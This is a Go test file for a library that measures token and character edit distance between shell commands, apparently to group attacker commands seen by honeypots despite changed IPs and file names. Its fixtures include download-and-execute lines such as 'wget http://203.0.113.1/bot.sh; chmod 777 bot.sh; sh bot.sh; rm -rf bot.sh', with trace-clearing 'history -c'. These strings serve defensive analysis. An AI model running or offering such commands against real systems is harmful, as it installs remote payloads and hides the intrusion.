package textdist

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestTokenizePaperExample(t *testing.T) {
	got := Tokenize("mkdir /tmp;cd /tmp")
	want := []string{"mkdir", "/tmp", "cd", "/tmp"}
	if len(got) != len(want) {
		t.Fatalf("tokens = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("token %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestDamerauPaperExample(t *testing.T) {
	// "mkdir /tmp" vs "cd /tmp": one token substitution... the paper
	// says DLD=1 treating each token as a character; "mkdir /tmp" is
	// [mkdir,/tmp], "cd /tmp" is [cd,/tmp]: substitution of one token.
	a := Tokenize("mkdir /tmp")
	b := Tokenize("cd /tmp")
	if d := Damerau(a, b); d != 1 {
		t.Errorf("DLD = %d, want 1", d)
	}
}

func TestDamerauBasics(t *testing.T) {
	cases := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"a b c", "a b c", 0},
		{"a b c", "a c b", 1}, // transposition
		{"a b c", "a b", 1},   // deletion
		{"a b", "a b c", 1},   // insertion
		{"a b c", "x y z", 3}, // full substitution
		{"wget http://1.2.3.4/x; chmod +x x; ./x", "wget http://5.6.7.8/y; chmod +x y; ./y", 3},
	}
	for _, c := range cases {
		if got := Damerau(Tokenize(c.a), Tokenize(c.b)); got != c.want {
			t.Errorf("Damerau(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
		}
	}
}

func TestObfuscationRobustness(t *testing.T) {
	// The paper's motivation: rotating IPs/filenames changes few tokens.
	a := "cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh"
	b := "cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh"
	ta, tb := Tokenize(a), Tokenize(b)
	d := Normalized(ta, tb)
	if d > 0.5 {
		t.Errorf("normalized DLD = %.2f; obfuscated variants should stay close", d)
	}
	// A completely different behavior must be far.
	c := "uname -a"
	if d2 := Normalized(ta, Tokenize(c)); d2 < 0.8 {
		t.Errorf("normalized DLD to scout = %.2f; different behavior should be far", d2)
	}
}

func TestDamerauProperties(t *testing.T) {
	gen := func(r *rand.Rand) []string {
		n := r.Intn(12)
		out := make([]string, n)
		vocab := []string{"cd", "/tmp", "wget", "chmod", "rm", "-rf", "x", "y"}
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	r := rand.New(rand.NewSource(7))
	for i := 0; i < 300; i++ {
		a, b, c := gen(r), gen(r), gen(r)
		dab := Damerau(a, b)
		dba := Damerau(b, a)
		if dab != dba {
			t.Fatalf("symmetry violated: %v %v", a, b)
		}
		if (dab == 0) != equal(a, b) {
			t.Fatalf("identity violated: %v %v d=%d", a, b, dab)
		}
		// Triangle inequality holds for OSA on these small random cases.
		dac := Damerau(a, c)
		dcb := Damerau(c, b)
		if dab > dac+dcb {
			t.Fatalf("triangle violated: d(a,b)=%d > %d+%d", dab, dac, dcb)
		}
		// Bounds.
		max := len(a)
		if len(b) > max {
			max = len(b)
		}
		if dab > max {
			t.Fatalf("distance exceeds max length")
		}
	}
}

func equal(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestNormalizedRange(t *testing.T) {
	f := func(a, b []byte) bool {
		ta := Tokenize(string(a))
		tb := Tokenize(string(b))
		d := Normalized(ta, tb)
		return d >= 0 && d <= 1
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestCharDamerau(t *testing.T) {
	if d := CharDamerau("kitten", "sitting"); d != 3 {
		t.Errorf("CharDamerau(kitten,sitting) = %d, want 3", d)
	}
	if d := CharDamerau("ab", "ba"); d != 1 {
		t.Errorf("CharDamerau(ab,ba) = %d, want 1 (transposition)", d)
	}
}

// TestScratchReuseMatchesFresh: a Scratch reused across many pairs (of
// varying lengths, exercising row growth and stale contents) must agree
// with the allocate-per-call package functions.
func TestScratchReuseMatchesFresh(t *testing.T) {
	r := rand.New(rand.NewSource(23))
	vocab := []string{"cd", "/tmp", "wget", "chmod", "777", "sh", "rm", "-rf", "x", "y", "z"}
	gen := func(max int) []string {
		out := make([]string, r.Intn(max))
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	s := new(Scratch)
	for i := 0; i < 1000; i++ {
		a, b := gen(1+r.Intn(30)), gen(1+r.Intn(30))
		if got, want := s.Damerau(a, b), Damerau(a, b); got != want {
			t.Fatalf("scratch Damerau = %d, fresh = %d for %v %v", got, want, a, b)
		}
		if got, want := s.Normalized(a, b), Normalized(a, b); got != want {
			t.Fatalf("scratch Normalized = %v, fresh = %v", got, want)
		}
	}
}

// TestNormalizedPrefilterExact: every pair, skewed lengths and empty
// sides included, gets exactly full-DP distance over max length.
func TestNormalizedPrefilterExact(t *testing.T) {
	r := rand.New(rand.NewSource(31))
	vocab := []string{"a", "b", "c", "d"}
	gen := func(n int) []string {
		out := make([]string, n)
		for i := range out {
			out[i] = vocab[r.Intn(len(vocab))]
		}
		return out
	}
	for i := 0; i < 2000; i++ {
		// Skewed lengths, either side the longer.
		a, b := gen(r.Intn(40)), gen(r.Intn(8))
		if r.Intn(2) == 0 {
			a, b = b, a
		}
		n := len(a)
		if len(b) > n {
			n = len(b)
		}
		want := 0.0
		if n > 0 {
			want = float64(Damerau(a, b)) / float64(n)
		}
		if got := Normalized(a, b); got != want {
			t.Fatalf("Normalized(%v, %v) = %v, want %v", a, b, got, want)
		}
	}
}

// TestCharDamerauMatchesTokenReference: the direct byte DP must equal
// the old implementation (token DLD over one-char strings).
func TestCharDamerauMatchesTokenReference(t *testing.T) {
	ref := func(a, b string) int {
		ta := make([]string, len(a))
		for i := 0; i < len(a); i++ {
			ta[i] = a[i : i+1]
		}
		tb := make([]string, len(b))
		for i := 0; i < len(b); i++ {
			tb[i] = b[i : i+1]
		}
		return Damerau(ta, tb)
	}
	r := rand.New(rand.NewSource(41))
	const chars = "abcdxy /;"
	gen := func() string {
		out := make([]byte, r.Intn(25))
		for i := range out {
			out[i] = chars[r.Intn(len(chars))]
		}
		return string(out)
	}
	for i := 0; i < 500; i++ {
		a, b := gen(), gen()
		if got, want := CharDamerau(a, b), ref(a, b); got != want {
			t.Fatalf("CharDamerau(%q, %q) = %d, want %d", a, b, got, want)
		}
	}
}

// TestCharDamerauZeroStringAllocs: the character DP must not allocate
// per-character strings; with a reused Scratch it must not allocate at
// all.
func TestCharDamerauZeroStringAllocs(t *testing.T) {
	s := new(Scratch)
	a := "cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh"
	b := "cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh"
	s.CharDamerau(a, b) // warm the rows
	allocs := testing.AllocsPerRun(50, func() {
		s.CharDamerau(a, b)
	})
	if allocs != 0 {
		t.Errorf("CharDamerau with scratch allocates %.1f/op, want 0", allocs)
	}
}

func BenchmarkDamerauTokens(b *testing.B) {
	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
	y := Tokenize("cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh; history -c")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		Damerau(x, y)
	}
}

// TestInternedMatchesStrings pins the interned path to the string
// full DP: equal tokens get equal IDs, so the ID reference and the
// hybrid kernel must both match it exactly.
func TestInternedMatchesStrings(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	vocab := []string{"wget", "curl", "-O", "/tmp/a", "/tmp/b", "chmod", "+x", "sh", "rm", "-rf", "cd", "mdrfckr", "echo", "127.0.0.1"}
	seq := func(n int) []string {
		out := make([]string, n)
		for i := range out {
			out[i] = vocab[rng.Intn(len(vocab))]
		}
		return out
	}
	in := NewInterner()
	s := new(Scratch)
	for trial := 0; trial < 300; trial++ {
		a, b := seq(rng.Intn(25)), seq(rng.Intn(25))
		ia, ib := in.Intern(a), in.Intern(b)
		if got, want := damerau(s, ia, ib), s.Damerau(a, b); got != want {
			t.Fatalf("damerau(%v, %v) = %d, want %d", a, b, got, want)
		}
		if got, want := s.NormalizedIDs(ia, ib), s.Normalized(a, b); got != want {
			t.Fatalf("NormalizedIDs(%v, %v) = %v, want %v", a, b, got, want)
		}
	}
}

// TestInternerPreservesEquality checks the Interner contract directly:
// same token same ID, distinct tokens distinct IDs.
func TestInternerPreservesEquality(t *testing.T) {
	in := NewInterner()
	ids := in.Intern([]string{"cd", "/tmp", "cd", "/var"})
	if ids[0] != ids[2] {
		t.Errorf("equal tokens got distinct IDs: %v", ids)
	}
	seen := map[int32]bool{ids[0]: true}
	for _, id := range []int32{ids[1], ids[3]} {
		if seen[id] {
			t.Errorf("distinct tokens share an ID: %v", ids)
		}
		seen[id] = true
	}
}
